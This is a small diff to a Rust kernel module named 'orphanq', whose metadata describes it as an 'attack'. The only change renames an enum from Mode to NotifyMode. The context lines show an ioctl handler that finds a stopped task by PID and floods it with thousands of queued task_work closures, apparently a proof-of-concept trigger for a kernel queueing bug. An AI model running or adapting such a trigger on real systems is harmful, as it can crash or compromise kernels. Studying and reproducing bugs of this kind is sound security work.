@@ -12,7 +12,7 @@ use kernel::{fs::File, ioctl::_IO, prelude::*};
 use tether::{
     misc_device::*,
     pid,
-    task_work::{Mode, Ordered},
+    task_work::{NotifyMode, Ordered},
 };
 module! { type: M, name: "orphanq", authors: ["h"], description: "attack", license: "GPL", }
 const GO: u32 = _IO(0xBB, 1);
@@ -30,7 +30,7 @@ impl MiscDevice for Dev {
         let stopped = pid::find_task(stopped as i32).ok_or(ESRCH)?;
         let mut cancelled = 0usize;
         'all: for _ in 0..100 {
-            let queue = Ordered::new(&stopped, Mode::Resume)?;
+            let queue = Ordered::new(&stopped, NotifyMode::Resume)?;
             for _ in 0..4000 {
                 let data = [7u64; 32];
                 match queue.add_fn(move |_| pr_info!("{}", data[3]), GFP_KERNEL) {
